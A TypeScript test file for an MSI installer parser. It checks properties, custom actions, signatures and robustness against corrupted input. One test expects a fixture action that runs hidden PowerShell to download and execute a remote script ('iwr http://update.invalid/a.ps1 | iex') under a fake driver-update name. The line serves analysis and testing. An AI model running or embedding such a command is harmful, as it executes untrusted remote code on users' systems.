import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readSignedData } from './cms.ts'
import { readMsi } from './msi.ts'
import { fixture } from './testing.ts'

const file = fixture('actions.msi')

test('properties, and actions with what they run', () => {
  const msi = readMsi(file)
  expect(msi?.properties.get('ProductName')).toBe('Camera Driver Update')
  expect(msi?.properties.get('RUNNER')).toBe('powershell.exe')
  expect(msi?.actions.find(({ name }) => name === 'Fetch')).toEqual({
    name: 'Fetch',
    type: 50,
    source: 'RUNNER',
    target: '-w hidden -c "iwr http://update.invalid/a.ps1 | iex"',
  })
  expect(msi?.actions.find(({ name }) => name === 'SetDir')?.type).toBe(51)
  expect(msi?.sequenced.has('Fetch')).toBe(true)
  expect(msi).toMatchObject({ signature: undefined, problem: '' })
})

test('a signature is there to read', () => {
  const { signature } = readMsi(fixture('signed.msi')) ?? {}
  expect(signature && readSignedData(signature)?.signers[0]?.organisation).toBe('Example Trading Ltd')
})

test('other files of the same container are none', () => {
  expect(readMsi(Buffer.from('d0cf11e0a1b11ae1', 'hex'))).toBeUndefined()
  expect(readMsi(new Uint8Array())).toBeUndefined()
})

test('damage is told, not thrown', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.nat(file.length - 1), fc.nat(255)), { maxLength: 20 }), (changes) => {
      const changed = Buffer.from(file)
      for (const [at, value] of changes) changed[at] = value
      const msi = readMsi(changed)
      if (msi) expect(msi.actions.length).toBeLessThanOrEqual(20_000)
    }),
    { numRuns: 100 },
  )
})
